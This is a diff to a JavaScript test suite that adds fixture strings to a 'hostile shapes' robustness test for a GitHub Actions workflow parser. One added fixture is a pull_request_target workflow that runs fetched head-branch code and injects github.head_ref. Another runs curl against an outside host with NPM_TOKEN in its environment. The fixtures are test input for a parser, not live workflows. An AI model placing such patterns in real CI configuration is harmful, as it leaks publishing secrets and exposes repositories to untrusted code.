@@ -47,6 +47,8 @@ describe("hostile shapes", () => {
       "jobs: {a: {steps: [null, 1, [x], {uses: 1, run: {a: b}, with: [1], env: 3, if: []}]}}",
       "jobs: {__proto__: {steps: []}, constructor: {uses: a}}",
       cyclic,
+      "on: pull_request_target\njobs: {a: {steps: [{run: git fetch origin, env: {'A(': '${{ github.head_ref }}'}}, {run: ./build.sh}]}}",
+      "on: push\njobs: {a: {steps: [{run: 'curl -d x https://a.build-relay.dev', env: {'A(': '${{ secrets.NPM_TOKEN }}'}}]}}",
       "jobs: {a: {steps: [{uses: '@'}, {uses: 'a@'}, {uses: '@b'}]}}",
     ],
   ])("are read without a fault", (...texts) => {
